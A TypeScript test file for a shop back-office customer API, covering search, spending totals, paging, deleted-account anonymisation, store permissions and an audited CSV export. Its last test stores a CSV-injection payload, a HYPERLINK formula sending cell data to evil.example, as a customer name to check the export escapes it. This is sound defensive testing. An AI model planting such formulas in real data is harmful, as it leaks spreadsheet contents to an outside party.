import { randomUUID } from 'node:crypto';
import { and, eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { auditLog, customers, orders } from '../../db/schema.ts';
import { useBackOfficeShop } from '../../../test/back-office-shop.ts';
import { insertTestOrder } from '../../../test/orders.ts';
import type { StaffAgent } from '../../../test/staff.ts';
import { deleteCustomerAccount } from '../customer-data/customer-data.service.ts';

// Issue 29 point 5: the shop's customers, their orders, and nothing of a deleted account.
const s = useBackOfficeShop();
const get = (url: string, agent: StaffAgent = s.manager) =>
  s.ctx.app.inject({ method: 'GET', url, headers: agent.headers });

async function customerWithOrders(where = s.main, statuses = ['completed', 'completed'] as const) {
  const tag = randomUUID().slice(0, 8);
  const first = await insertTestOrder(s.ctx.db, where, { status: statuses[0], payment: 'card' });
  await s.ctx.db
    .update(customers)
    .set({ firstName: 'Mina', lastName: `Patel${tag}`, marketingConsent: true })
    .where(eq(customers.id, first.customerId));
  return { tag, customerId: first.customerId, first };
}

describe('GET /api/admin/customers', () => {
  it('lists a customer with contact, orders, money spent less refunds, last order and consent', async () => {
    const { tag, customerId, first } = await customerWithOrders();
    const refund = await s.ctx.app.inject({
      method: 'POST',
      url: `/api/admin/orders/${first.id}/refunds`,
      headers: s.manager.headers,
      payload: { amount: 190, reason: 'Cold' },
    });
    expect(refund.statusCode).toBe(201);
    const res = await get(`/api/admin/customers?q=patel${tag}`);
    expect(res.statusCode).toBe(200);
    expect(res.json().data.customers).toEqual([
      expect.objectContaining({
        id: customerId,
        deleted: false,
        name: `Mina Patel${tag}`,
        email: first.customerEmail,
        phone: '+447700900555',
        marketing_consent: true,
        orders: 1,
        total_spent: 2000,
        last_order_at: expect.any(String),
      }),
    ]);
    const detail = await get(`/api/admin/customers/${customerId}`);
    expect(detail.json().data.order_history).toEqual([
      expect.objectContaining({ id: first.id, number: first.number, total: 2190, refunded: 190 }),
    ]);
  });

  it('counts only the orders the shop was paid for: not a rejected one, nor cash still to collect', async () => {
    // Walk 2 finding 29: Tom's auto-rejected #1004 was in his orders, Anjali's uncollected
    // cash pre-order (£4.50) in her "spent".
    const { tag, customerId } = await customerWithOrders();
    const more = [
      { status: 'rejected', payment: 'card', paymentStatus: 'cancelled' },
      { status: 'accepted', payment: 'cash' },
      { status: 'completed', payment: 'cash' },
    ] as const;
    for (const options of more) {
      const order = await insertTestOrder(s.ctx.db, s.main, options);
      await s.ctx.db.update(orders).set({ customerId }).where(eq(orders.id, order.id));
    }
    const [listed] = (await get(`/api/admin/customers?q=patel${tag}`)).json().data.customers;
    // The card order charged and the cash order completed: 2 × £21.90.
    expect(listed).toMatchObject({ orders: 2, total_spent: 4380 });
    // The customer's page still lists all four, each with its status.
    const detail = (await get(`/api/admin/customers/${customerId}`)).json().data;
    expect(detail.order_history).toHaveLength(4);
  });

  it('pages with a cursor', async () => {
    for (let i = 0; i < 3; i++) await customerWithOrders();
    const seen = new Set<string>();
    let cursor: string | null = null;
    do {
      const res = await get(`/api/admin/customers${cursor ? `?cursor=${cursor}` : ''}`, s.owner);
      const data = res.json().data as { customers: { id: string }[]; next_cursor: string | null };
      for (const c of data.customers) seen.add(c.id);
      cursor = data.next_cursor;
    } while (cursor);
    expect(seen.size).toBeGreaterThanOrEqual(3);
  });

  it('shows a deleted account as deleted, with no personal data, and finds it by nothing personal', async () => {
    const { tag, customerId } = await customerWithOrders();
    await deleteCustomerAccount(s.ctx.db, s.tenantId, customerId, new Date());
    const detail = (await get(`/api/admin/customers/${customerId}`)).json().data;
    expect(detail).toMatchObject({
      deleted: true,
      name: null,
      email: null,
      phone: null,
      marketing_consent: false,
      orders: 1,
    });
    expect((await get(`/api/admin/customers?q=patel${tag}`)).json().data.customers).toEqual([]);
  });

  it('lets a manager see only customers of their stores', async () => {
    const { tag, customerId } = await customerWithOrders(s.kiosk);
    expect((await get(`/api/admin/customers?q=patel${tag}`)).json().data.customers).toEqual([]);
    expect((await get(`/api/admin/customers/${customerId}`)).statusCode).toBe(404);
    expect(
      (await get(`/api/admin/customers?q=patel${tag}`, s.owner)).json().data.customers,
    ).toHaveLength(1);
  });

  it('exports CSV for an owner and audits it; a manager may not export; staff may not look', async () => {
    const { tag } = await customerWithOrders();
    const csv = await get(`/api/admin/customers?q=patel${tag}&format=csv`, s.owner);
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toContain('text/csv');
    expect(csv.body.split('\n')[0]).toBe(
      'name,email,phone,marketing_consent,orders,total_spent,last_order_at',
    );
    expect(csv.body).toContain(`Mina Patel${tag},`);
    const audits = await s.ctx.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.tenantId, s.tenantId), eq(auditLog.action, 'customers.exported')));
    expect(audits.at(-1)).toMatchObject({
      actorEmail: s.owner.email,
      after: { rows: 1, q: `patel${tag}` },
    });
    expect((await get(`/api/admin/customers?format=csv`)).statusCode).toBe(403);
    expect((await get('/api/admin/customers', s.cook)).statusCode).toBe(403);
    expect((await get('/api/admin/customers?cursor=zzz')).statusCode).toBe(400);
  });

  it('keeps a name that looks like a formula as text in the export (CSV injection)', async () => {
    const { tag, customerId } = await customerWithOrders();
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    await s.ctx.db
      .update(customers)
      .set({ firstName: evil, lastName: tag, phone: '+447700900555' })
      .where(eq(customers.id, customerId));
    const csv = await get(`/api/admin/customers?q=${tag}&format=csv`, s.owner);
    expect(csv.statusCode).toBe(200);
    const row = csv.body.split('\n')[1]!;
    expect(row.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"") ${tag}",`)).toBe(
      true,
    );
    // A phone number is a plain number: no apostrophe before its +.
    expect(row).toContain(',+447700900555,');
  });
});
